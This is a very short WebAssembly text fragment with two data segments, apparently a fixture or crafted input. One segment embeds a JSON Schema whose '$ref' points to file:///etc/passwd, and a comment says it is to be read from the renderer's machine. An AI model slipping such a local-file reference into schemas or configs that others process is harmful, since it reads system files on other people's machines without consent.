;; A config schema that is to be read from the machine of whoever renders.
(data (i32.const 0x130) "{\"$ref\":\"file:///etc/passwd\"}")
(data (i32.const 0x2c) "\1d")
